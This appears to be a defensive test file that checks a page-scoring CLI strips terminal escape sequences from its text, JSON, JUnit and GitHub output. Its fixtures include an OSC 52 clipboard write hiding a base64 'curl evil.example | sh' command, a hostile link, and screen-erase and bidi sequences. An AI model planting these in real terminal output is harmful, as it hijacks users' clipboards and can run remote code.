// Page text reaches terminals and CI logs through the CLI: escape sequences and control characters in a
// page's title, headings, description and JSON-LD (OSC 52 clipboard writes, OSC 0/2 title changes, OSC 8
// links, CSI erase and cursor moves, DCS strings, 8-bit CSI, BEL, BS, CR, bidi overrides) must not survive
// in any format (red team 2026-11-24, issue 17). A JSON decoder hands escapes back (jq -r), so the JSON
// report's decoded strings are checked too.
import { mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { withoutControls } from "../../cli/formats/control-chars.ts";
import { runCli } from "./cli-run.ts";

const ESC = "\u001b";
const BEL = "\u0007";
/** Each sequence with a payload that must vanish with it. */
const SEQUENCES = {
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`,
  title: `${ESC}]0;PWNED-TITLE${ESC}\\`,
  title2: `${ESC}]2;PWNED-TITLE-2${BEL}`,
  link: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  erase: `${ESC}[2K${ESC}[1A${ESC}[2J${ESC}[1;1H`,
  color: `${ESC}[31;1m`,
  dcs: `${ESC}P1$rPAYLOAD-DCS${ESC}\\`,
  csi8: "\u009b2J",
  osc8bit: "\u009d0;PWNED-8BIT\u009c",
  reset: `${ESC}c`,
  controls: "\u0008\u0008\r\u0000\u007f",
  bidi: "\u202e\u2066",
};
const ALL = Object.values(SEQUENCES).join("");
/**
 * Payloads of the sequences in the title and headings, which must vanish with their sequences. (The page's
 * description and JSON-LD name are quoted by fixes' JSON-LD snippets, JSON-escaped by the scoring library: ESC there is the six
 * printable characters \u001b, which no terminal acts on, so its erase sequences are checked as characters.)
 */
const PAYLOADS = ["52;c;", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA", "PWNED-TITLE", "PWNED-8BIT", "evil.example", "PAYLOAD-DCS", "[31;1m"];
/** Nothing a terminal acts on: C0 but tab and LF, DEL, C1, bidi embeddings/overrides/isolates. */
const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const PAGE = `<!doctype html><html lang="en"><head><title>Hostile Tools ${ALL}Store</title>
<meta name="description" content="Hostile Tools sells tools${SEQUENCES.erase}${BEL} to workshops\rOVERWRITE">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","name":"Hostile \\u001b]2;LD-NAME\\u0007Org"}</script>
</head><body><main><h1>Hostile heading ${SEQUENCES.erase}${SEQUENCES.title}</h1><p>A short paragraph.${SEQUENCES.bidi}</p>
<h2>What does it sell? ${SEQUENCES.clipboard}${SEQUENCES.dcs}</h2><p>It sells tools ${SEQUENCES.csi8}${SEQUENCES.osc8bit}.</p></main></body></html>`;

let page: string;
beforeAll(async () => {
  page = join(await mkdtemp(join(tmpdir(), "citable-controls-")), "hostile.html");
  await writeFile(page, PAGE);
});
afterEach(() => vi.restoreAllMocks());

function strings(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value !== null && typeof value === "object") return Object.entries(value).flatMap(([key, item]) => [key, ...strings(item)]);
  return [];
}

describe("CLI output carries no control characters from the page", () => {
  it.each(["text", "json", "junit", "github"])("--format %s", async (format) => {
    const { code, out } = await runCli("score", page, "--url", "https://hostile.example/", "--format", format);
    expect(code).toBe(0);
    expect(out).not.toMatch(FORBIDDEN);
    for (const payload of PAYLOADS) expect(out).not.toContain(payload);
    expect(out).not.toMatch(/Hostile heading\s*\[/);
    // The page's words are still there, only cleaned.
    expect(out).toMatch(/What does it sell\?/);
    if (format === "text") expect(out).not.toMatch(/\t/);
    if (format === "json") {
      const decoded = strings(JSON.parse(out));
      expect(decoded.filter((value) => FORBIDDEN.test(value))).toEqual([]);
      expect((JSON.parse(out) as { page: { title: string } }).page.title).toBe("Hostile Tools click Store");
    }
  });
});

describe("withoutControls", () => {
  it.each([
    [`a${SEQUENCES.clipboard}b`, "ab"],
    [`a${SEQUENCES.title}b${SEQUENCES.title2}c`, "abc"],
    [`a${SEQUENCES.link}b`, "aclickb"],
    [`a${SEQUENCES.erase}${SEQUENCES.color}b`, "ab"],
    [`a${SEQUENCES.dcs}b`, "ab"],
    [`a${SEQUENCES.csi8}${SEQUENCES.osc8bit}b`, "ab"],
    [`a${SEQUENCES.reset}b${ESC}(Bc`, "abc"],
    ["line one\r\nline two\rthree", "line one\nline two\nthree"],
    ["tab\tand\nnewline", "tab\tand\nnewline"],
    [`unterminated ${ESC}]52;c;AAAA`, "unterminated "],
    [`trailing ${ESC}`, "trailing "],
    ["\u202eevil\u202c \u2067x\u2069", "evil x"],
    ["Ünïcödé, 中文, עברית, العربية \u200f", "Ünïcödé, 中文, עברית, العربية \u200f"],
  ])("%j → %j", (input, expected) => {
    expect(withoutControls(input)).toBe(expected);
  });

  it("puts tabs and newlines on one line when asked", () => {
    expect(withoutControls("a\tb\r\nc", false)).toBe("a b c");
  });

  it("leaves nothing a terminal acts on, for any string, and is idempotent", () => {
    const hostile = fc.array(fc.oneof(fc.constantFrom(...Object.values(SEQUENCES), ESC, "[", "]", BEL, "\\", "\u009c"), fc.string({ unit: "binary", maxLength: 8 })), { maxLength: 20 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary" }), hostile), (input) => {
        const once = withoutControls(input);
        expect(once).not.toMatch(FORBIDDEN);
        expect(withoutControls(once)).toBe(once);
        expect(withoutControls(input, false)).not.toMatch(/[\t\n]/);
      }),
      { numRuns: 2000 },
    );
  });

  it("changes no printable text", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."abc XYZ 123 .,;:!?[]()é中") }), (input) => {
        expect(withoutControls(input)).toBe(input);
      }),
    );
  });
});
